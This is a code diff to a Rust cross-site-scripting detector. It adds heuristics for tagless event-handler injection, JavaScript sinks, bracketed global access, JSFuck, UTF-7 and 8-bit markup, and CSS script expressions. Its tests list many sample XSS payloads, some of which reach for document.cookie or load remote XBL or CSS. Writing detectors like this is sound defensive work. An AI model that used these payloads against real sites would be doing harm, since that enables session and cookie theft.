@@ -32,6 +32,128 @@ const URL_ATTRS: &[&str] = &[
 
 const LOADING_TAGS: &[&str] = &[
     "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "import",
+    "vmlframe", "include", "link",
+];
+
+/// Event-handler attribute names (without `on`) browsers fire, for values
+/// that inject an attribute without a tag (`" onfocus=`, `x onload=`).
+const EVENTS: &[&str] = &[
+    "abort",
+    "afterprint",
+    "animationend",
+    "animationiteration",
+    "animationstart",
+    "auxclick",
+    "beforecopy",
+    "beforecut",
+    "beforeinput",
+    "beforepaste",
+    "beforeprint",
+    "beforetoggle",
+    "beforeunload",
+    "begin",
+    "blur",
+    "bounce",
+    "canplay",
+    "canplaythrough",
+    "change",
+    "click",
+    "close",
+    "contextmenu",
+    "copy",
+    "cuechange",
+    "cut",
+    "dblclick",
+    "drag",
+    "dragend",
+    "dragenter",
+    "dragleave",
+    "dragover",
+    "dragstart",
+    "drop",
+    "durationchange",
+    "end",
+    "ended",
+    "error",
+    "finish",
+    "focus",
+    "focusin",
+    "focusout",
+    "formdata",
+    "fullscreenchange",
+    "hashchange",
+    "input",
+    "invalid",
+    "keydown",
+    "keypress",
+    "keyup",
+    "load",
+    "loadeddata",
+    "loadedmetadata",
+    "loadstart",
+    "message",
+    "mousedown",
+    "mouseenter",
+    "mouseleave",
+    "mousemove",
+    "mouseout",
+    "mouseover",
+    "mouseup",
+    "mousewheel",
+    "offline",
+    "online",
+    "pagehide",
+    "pageshow",
+    "paste",
+    "pause",
+    "play",
+    "playing",
+    "pointerdown",
+    "pointerenter",
+    "pointerleave",
+    "pointermove",
+    "pointerout",
+    "pointerover",
+    "pointerrawupdate",
+    "pointerup",
+    "popstate",
+    "progress",
+    "ratechange",
+    "repeat",
+    "reset",
+    "resize",
+    "scroll",
+    "scrollend",
+    "search",
+    "seeked",
+    "seeking",
+    "select",
+    "selectionchange",
+    "selectstart",
+    "show",
+    "start",
+    "stalled",
+    "storage",
+    "submit",
+    "suspend",
+    "timeupdate",
+    "toggle",
+    "touchend",
+    "touchmove",
+    "touchstart",
+    "transitioncancel",
+    "transitionend",
+    "transitionrun",
+    "transitionstart",
+    "unhandledrejection",
+    "unload",
+    "volumechange",
+    "waiting",
+    "webkitanimationend",
+    "webkitanimationiteration",
+    "webkitanimationstart",
+    "webkittransitionend",
+    "wheel",
 ];
 
 const SINKS: &[&str] = &[
@@ -119,6 +241,13 @@ fn tags(s: &str) -> Option<Found> {
             break;
         }
         let mut j = lt + 1;
+        // `<?import implementation=...>` (IE behaviours).
+        if b.get(j) == Some(&b'?')
+            && b.get(j + 1..j + 7)
+                .is_some_and(|w| w.eq_ignore_ascii_case(b"import"))
+        {
+            found = best(found, Some(("xss.loading_tag", 0.7)));
+        }
         let closing = b.get(j) == Some(&b'/');
         if closing {
             j += 1;
@@ -130,7 +259,9 @@ fn tags(s: &str) -> Option<Found> {
         if j == name_start || !b[name_start].is_ascii_alphabetic() {
             continue;
         }
-        let name = s.get(name_start..j).unwrap_or("").to_ascii_lowercase();
+        let full = s.get(name_start..j).unwrap_or("").to_ascii_lowercase();
+        // `<v:vmlframe>`, `<xi:include>`: judge the local name.
+        let name = full.rsplit(':').next().unwrap_or("").to_string();
         if closing {
             if name == "script" || name == "title" || name == "textarea" || name == "style" {
                 // `</script>` or `</title>` breaking out of a raw-text element.
@@ -147,6 +278,7 @@ fn tags(s: &str) -> Option<Found> {
         }
         match name.as_str() {
             "script" => found = best(found, Some(("xss.script_tag", 0.95))),
+            "style" => found = best(found, Some(("xss.style_tag", 0.6))),
             n if LOADING_TAGS.contains(&n) => found = best(found, Some(("xss.loading_tag", 0.75))),
             "meta"
                 if s.get(j..)
@@ -221,7 +353,16 @@ fn attributes(a: &str, tag: &str) -> Option<Found> {
             && name.starts_with("on")
             && name.bytes().skip(2).all(|c| c.is_ascii_alphabetic())
         {
-            Some(("xss.event_handler", 0.95))
+            let known = EVENTS.iter().any(|e| name.get(2..) == Some(e));
+            let jsx = value.starts_with('{') && value.ends_with('}');
+            if jsx {
+                // JSX (`onClick={handler}`) is source code, not markup.
+                None
+            } else if known || value.contains(['(', '`', '=']) {
+                Some(("xss.event_handler", 0.95))
+            } else {
+                Some(("xss.event_handler", 0.7))
+            }
         } else if URL_ATTRS.contains(&name.as_str()) {
             script_uri(value).or_else(|| {
                 (name == "srcdoc" || (LOADING_TAGS.contains(&tag) && !value.is_empty()))
@@ -242,17 +383,297 @@ fn attributes(a: &str, tag: &str) -> Option<Found> {
     found
 }
 
+/// Whether `b[at..]` starts an event-handler attribute: `on` + a known
+/// event, blanks, `=`.
+fn handler_at(b: &[u8], at: usize) -> bool {
+    let rest = b.get(at..).unwrap_or(&[]);
+    if rest.len() < 5 || !rest[..2].eq_ignore_ascii_case(b"on") {
+        return false;
+    }
+    let n = rest
+        .iter()
+        .skip(2)
+        .take_while(|c| c.is_ascii_alphabetic())
+        .count();
+    let name = rest.get(2..2 + n).unwrap_or(&[]);
+    let after = rest.get(2 + n..).unwrap_or(&[]);
+    let eq = after
+        .iter()
+        .find(|c| !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c'))
+        == Some(&b'=');
+    eq && EVENTS
+        .iter()
+        .any(|e| e.as_bytes().eq_ignore_ascii_case(name))
+}
+
+/// An event handler injected as an attribute without a tag: `x onload=`,
+/// `" autofocus onfocus=`, `;onfocus=eval(...)`.
+fn bare_handler(b: &[u8]) -> Option<Found> {
+    let mut from = 0;
+    let mut n = 0;
+    while let Some(p) = b.get(from..).and_then(|r| memchr::memchr2(b'o', b'O', r)) {
+        let at = from + p;
+        from = at + 1;
+        n += 1;
+        if n > 256 {
+            break;
+        }
+        let prev = at.checked_sub(1).and_then(|q| b.get(q).copied());
+        let boundary = matches!(
+            prev,
+            None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'"' | b'\'' | b'`' | b'/' | b';')
+        );
+        // JSX `onClick={handler}` is source code, not an injected attribute.
+        let jsx = b
+            .get(at..)
+            .and_then(|r| memchr::memchr(b'=', r))
+            .and_then(|e| b.get(at + e + 1..))
+            .is_some_and(|v| v.trim_ascii_start().starts_with(b"{"));
+        if boundary && !jsx && handler_at(b, at) {
+            return Some(("xss.attr_breakout", 0.85));
+        }
+    }
+    None
+}
+
+/// Lower-cased `s` with JS comments and blanks outside strings removed, so
+/// `document /*x*/ . cookie` reads `document.cookie`; capped.
+fn js_squeeze(s: &str) -> String {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len().min(4096));
+    let mut i = 0;
+    while i < b.len() && out.len() < 4096 {
+        match b[i] {
+            b'/' if b.get(i + 1) == Some(&b'*') => {
+                i = b
+                    .get(i + 2..)
+                    .and_then(|r| memchr::memmem::find(r, b"*/"))
+                    .map_or(b.len(), |e| i + 2 + e + 2);
+            }
+            c if c.is_ascii_whitespace() => i += 1,
+            c => {
+                out.push(c.to_ascii_lowercase());
+                i += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&out).into_owned()
+}
+
+/// Script written as a value: DOM sinks, sink calls, bracket access to
+/// globals, tagged templates, JSFuck.
+fn script_value(s: &str) -> Option<Found> {
+    let j = js_squeeze(s);
+    let mut found = None;
+    // Globals reached through brackets: `self["alert"]`, `(document)["cookie"]`.
+    for g in [
+        "window",
+        "self",
+        "top",
+        "parent",
+        "this",
+        "globalthis",
+        "frames",
+        "document",
+    ] {
+        for (at, _) in j.match_indices(g).take(8) {
+            let prev = at.checked_sub(1).and_then(|p| j.as_bytes().get(p).copied());
+            if prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'.') {
+                continue;
+            }
+            let rest = j.get(at + g.len()..).unwrap_or("");
+            let rest = rest.strip_prefix(')').unwrap_or(rest);
+            if rest.starts_with("[\"") || rest.starts_with("['") || rest.starts_with("[`") {
+                found = best(found, Some(("xss.dom_access", 0.75)));
+            }
+        }
+    }
+    // DOM properties that read secrets or navigate.
+    for k in [
+        "document.cookie",
+        "document.domain",
+        "document.write",
+        "document.location",
+        "window.location",
+        "window.name",
+        "location.href",
+        "location.hash",
+        "localstorage.",
+        "sessionstorage.",
+    ] {
+        if let Some(at) = j.find(k) {
+            let prev = at.checked_sub(1).and_then(|p| j.as_bytes().get(p).copied());
+            if !prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_') {
+                found = best(found, Some(("xss.dom_access", 0.6)));
+            }
+        }
+    }
+    // Sinks called or used as a tag: `alert()`, `eval('..')`, `.call`x``,
+    // `new Function(`.
+    for k in [
+        "alert",
+        "prompt",
+        "confirm",
+        "eval",
+        "settimeout",
+        "setinterval",
+        "execscript",
+        "atob",
+        "function",
+        ".call",
+        ".apply",
+        "import",
+    ] {
+        for (at, _) in j.match_indices(k).take(8) {
+            let prev = at.checked_sub(1).and_then(|p| j.as_bytes().get(p).copied());
+            let after_new = k == "function" && j.get(..at).is_some_and(|p| p.ends_with("new"));
+            if !k.starts_with('.')
+                && !after_new
+                && prev.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_' || c == b'$')
+            {
+                continue;
+            }
+            let rest = j.get(at + k.len()..).unwrap_or("");
+            let f = if rest.starts_with('`') {
+                Some(0.75)
+            } else if rest.starts_with('(') && !k.starts_with('.') {
+                match k {
+                    "alert" | "prompt" | "confirm" | "eval" | "settimeout" | "setinterval"
+                    | "execscript"
+                        if !js_arg(rest.get(1..).unwrap_or("")) =>
+                    {
+                        None
+                    }
+                    "function" => j
+                        .get(..at)
+                        .is_some_and(|p| p.ends_with("new"))
+                        .then_some(0.6),
+                    "import" => rest
+                        .trim_start_matches('(')
+                        .starts_with(['\'', '"', '`'])
+                        .then_some(0.6)
+                        .filter(|_| rest.contains("//")),
+                    "atob" => None,
+                    _ => Some(0.6),
+                }
+            } else {
+                None
+            };
+            found = best(found, f.map(|c| ("xss.sink_call", c)));
+        }
+    }
+    // `${alert}` inside a template.
+    if j.contains("${alert}") || j.contains("${prompt}") || j.contains("${confirm}") {
+        found = best(found, Some(("xss.sink_call", 0.75)));
+    }
+    // JSFuck: a value built only from `[]()!+`.
+    let fuck = s
+        .bytes()
+        .filter(|c| !c.is_ascii_whitespace())
+        .all(|c| matches!(c, b'[' | b']' | b'(' | b')' | b'!' | b'+'));
+    if fuck && j.matches("[]").count() >= 2 && j.contains('!') {
+        found = best(found, Some(("xss.jsfuck", 0.7)));
+    }
+    found
+}
+
+/// Whether `a` (squeezed text after a sink's `(`) starts an argument a
+/// payload passes: a number, a string, nothing, a global, or a name then
+/// `)` or `,` — not prose like `(yes/no)`.
+fn js_arg(a: &str) -> bool {
+    if a.is_empty() || a.starts_with([')', '\'', '"', '`', '/', '[', '{']) {
+        return true;
+    }
+    if a.starts_with(|c: char| c.is_ascii_digit()) {
+        return true;
+    }
+    let n = a
+        .bytes()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'$' | b'.'))
+        .count();
+    let id = a.get(..n).unwrap_or("");
+    let after = a.get(n..).unwrap_or("");
+    [
+        "document", "window", "this", "self", "top", "string.", "atob", "location",
+    ]
+    .iter()
+    .any(|g| id.starts_with(g))
+        || (n > 0 && after.starts_with([')', ',', '(', '+', '[']))
+}
+
+/// Spellings that turn into markup on some decoders: UTF-7 (`+ADw-`) and
+/// 8-bit US-ASCII with the high bit set (`¼script¾`).
+fn fold_markup(s: &str) -> Option<String> {
+    let utf7 = s.contains("+ADw") || s.contains("+AD4");
+    let high = s.contains('\u{bc}') && s.contains('\u{be}');
+    if !(utf7 || high) {
+        return None;
+    }
+    let mut t = s.to_string();
+    if utf7 {
+        t = t
+            .replace("+ADw-", "<")
+            .replace("+AD4-", ">")
+            .replace("+ADw", "<")
+            .replace("+AD4", ">")
+            .replace("+ACI-", "\"");
+    }
+    if high {
+        t = t
+            .replace('\u{bc}', "<")
+            .replace('\u{be}', ">")
+            .replace('\u{a2}', "\"");
+    }
+    Some(t)
+}
+
+/// CSS that runs script: `url(javascript:`, `expression(`, `-moz-binding`.
+fn css(s: &str) -> Option<Found> {
+    let v = squeeze_long(s);
+    (v.contains("url(javascript")
+        || v.contains("url(vbscript")
+        || v.contains("-moz-binding:")
+        || v.contains(":expression(")
+        || v.contains("behavior:url("))
+    .then_some(("xss.css_expression", 0.75))
+}
+
+/// [`squeeze`] without its length cap (bounded by the value cap).
+fn squeeze_long(s: &str) -> String {
+    s.chars()
+        .filter(|c| !c.is_whitespace() && !c.is_control())
+        .take(16 * 1024)
+        .collect::<String>()
+        .to_ascii_lowercase()
+}
+
 /// Judges a decoded value.
 pub fn detect(s: &str) -> Option<Found> {
+    match fold_markup(s) {
+        Some(t) => best(judge(s), judge(&t)),
+        None => judge(s),
+    }
+}
+
+fn judge(s: &str) -> Option<Found> {
     let b = s.as_bytes();
     let has = |c: u8| memchr::memchr(c, b).is_some();
     let (lt, colon, eq, paren, tick) = (has(b'<'), has(b':'), has(b'='), has(b'('), has(b'`'));
-    if !(lt || colon || eq || paren || tick) {
+    if !(lt || colon || eq || paren || tick || has(b'[') || has(b'.')) {
         return None;
     }
     let mut found = None;
     if lt {
         found = tags(s);
+    }
+    if eq {
+        found = best(found, bare_handler(b));
+    }
+    if paren || tick || has(b'[') || has(b'.') {
+        found = best(found, script_value(s));
+    }
+    if paren && colon {
+        found = best(found, css(s));
     }
     if colon {
         found = best(found, script_uri(s));
@@ -353,6 +774,31 @@ mod tests {
             "<x onclick=alert(1)>click",
             "<object data=\"javascript:alert(1)\">",
             "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+            // Attributes injected without a tag, in any spelling of the boundary.
+            "x onload=alert(1)",
+            "  onmouseover= ",
+            "test;onfocus=eval(atob('YWxlcnQoMSk='))",
+            "onload=alert()",
+            // Script as a value: DOM sinks, bracket access, templates, JSFuck.
+            "document /*foo*/ .     cookie",
+            "window[\"alert\"](window[\"document\"][\"cookie\"])",
+            "(document)[\"cookie\"]",
+            "setInterval(code, 1)",
+            "eval('2 + 2')",
+            "new Function()",
+            "[].sort.call`${alert}1337`",
+            "Reflect.apply.call`${navigation.navigate}`",
+            "(![] + [])[+!+[]]",
+            // CSS and loading tags.
+            "x=x:url(javascript",
+            "-moz-binding:url(http://example.com/xss.xml#xss)",
+            "<v:vmlframe src=\"foo.com/sup.fml\"/>",
+            "<link href=\"xss.js\" rel=stylesheet>",
+            "<?import implementation =",
+            "<STYLE>@import'//x.y/z.css'</STYLE>",
+            // Decoder tricks: UTF-7 and 8-bit ASCII.
+            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+            "\u{bc}script\u{be}alert(\u{a2}XSS\u{a2})\u{bc}/script\u{be}",
         ] {
             assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
         }
@@ -374,6 +820,23 @@ mod tests {
             "the alerting system",
             "<3 love it",
             "one=two&three=four",
+            "sort=price onsale=true",
+            "turn the lights on = saves power",
+            "go to document.pdf and window.png",
+            "the eval function in Python is dangerous",
+            "please confirm your email",
+            "[1, 2, 3]",
+            "a[b] = c.d",
+            "Read https://example.com/a?b=c;d=e",
+            "```js\nconst x = a < b ? a : b;\nif (x && y) { return x; }\n```",
+            "import numpy as np",
+            "C++ vs C#",
+            "1.5 (approx.)",
+            "on=off",
+            "data: 1, 2, 3",
+            "Confirm (yes/no)?",
+            "React: <Button onClick={handleClick}>Save</Button>",
+            "JS: `document.getElementById('app').innerHTML = html;`",
         ] {
             assert_eq!(detect(b), None, "flagged {b:?}");
         }
